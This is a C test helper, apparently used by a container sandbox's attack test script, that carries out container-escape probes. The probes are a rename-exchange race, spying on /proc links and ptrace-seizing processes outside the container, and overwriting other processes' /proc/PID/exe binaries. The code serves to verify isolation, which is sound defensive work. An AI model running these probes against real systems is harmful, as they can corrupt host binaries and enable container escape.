/* SPDX-License-Identifier: Apache-2.0 */
/* What a container does to those who come in or stand beside it; for attacks.sh. Runs until it is killed.
 *
 *   attack swap A B        exchanges two names as fast as it can
 *   attack spy             prints each link of /proc/PID/{exe,cwd,root,fd/N} of others that leads out of the container, and each process
 *                          of another program than this one, busybox or the container's that lets itself be traced
 *   attack overwrite       opens /proc/PID/exe of all others and writes to what lies behind, if that can be done */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static int swap(const char *a, const char *b) {
        for (;;)
                (void) renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

/* Paths in the container are short; what names the host's are these. */
static int leads_out(const char *target) {
        return strstr(target, "sdpod") || strncmp(target, "/home", 5) == 0 || strncmp(target, "/run/user", 9) == 0 ||
               strncmp(target, "/tmp/e2e", 8) == 0 || strncmp(target, "(unreachable)", 13) == 0;
}

static void look(const char *pid, const char *name) {
        char path[300], target[4096];

        (void) snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
        ssize_t n = readlink(path, target, sizeof(target) - 1);
        if (n <= 0)
                return;
        target[n] = 0;
        if (leads_out(target))
                printf("%s -> %s\n", path, target);
}

static void look_at_descriptors(const char *pid) {
        char path[300], name[300];

        (void) snprintf(path, sizeof(path), "/proc/%s/fd", pid);
        DIR *dir = opendir(path);
        if (!dir)
                return;
        for (struct dirent *e; (e = readdir(dir));) {
                (void) snprintf(name, sizeof(name), "fd/%.200s", e->d_name);
                look(pid, name);
        }
        (void) closedir(dir);
}

static void seize(const char *pid) {
        char path[300], target[4096];

        if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) < 0)
                return;
        (void) snprintf(path, sizeof(path), "/proc/%s/exe", pid);
        ssize_t n = readlink(path, target, sizeof(target) - 1);
        target[n > 0 ? n : 0] = 0; /* who is at its end has none any more */
        if (leads_out(target))
                printf("seized %s: '%s'\n", pid, target);
        look_at_descriptors(pid);
        /* who ends while it is traced is reaped here first */
        if (ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0) == 0 && waitpid(atoi(pid), NULL, __WALL) > 0)
                (void) ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
}

static void spy(const char *pid) {
        look(pid, "exe");
        look(pid, "cwd");
        look(pid, "root");
        look_at_descriptors(pid);
        seize(pid);
}

static void overwrite(const char *pid) {
        char path[300];

        (void) snprintf(path, sizeof(path), "/proc/%s/exe", pid);
        int fd = open(path, O_PATH);
        if (fd < 0)
                return;
        (void) snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        for (int i = 0; i < 50; i++) {
                int target = open(path, O_WRONLY);

                if (target >= 0) {
                        printf("%s of %s was opened for writing\n", path, pid);
                        (void) !write(target, "#!/bin/sh\n", 10);
                        (void) close(target);
                }
        }
        (void) close(fd);
}

static int for_all_others(void (*what)(const char *pid)) {
        char self[20], line[64];

        (void) snprintf(self, sizeof(self), "%d", getpid());
        (void) setvbuf(stdout, line, _IOLBF, sizeof(line));
        for (;;) {
                DIR *proc = opendir("/proc");

                if (!proc)
                        return 1;
                for (struct dirent *e; (e = readdir(proc));)
                        if (isdigit((unsigned char) *e->d_name) && strcmp(e->d_name, "1") != 0 && strcmp(e->d_name, self) != 0)
                                what(e->d_name);
                (void) closedir(proc);
        }
}

int main(int argc, char **argv) {
        if (argc == 4 && strcmp(argv[1], "swap") == 0)
                return swap(argv[2], argv[3]);
        if (argc == 2 && strcmp(argv[1], "spy") == 0)
                return for_all_others(spy);
        if (argc == 2 && strcmp(argv[1], "overwrite") == 0)
                return for_all_others(overwrite);
        return 2;
}
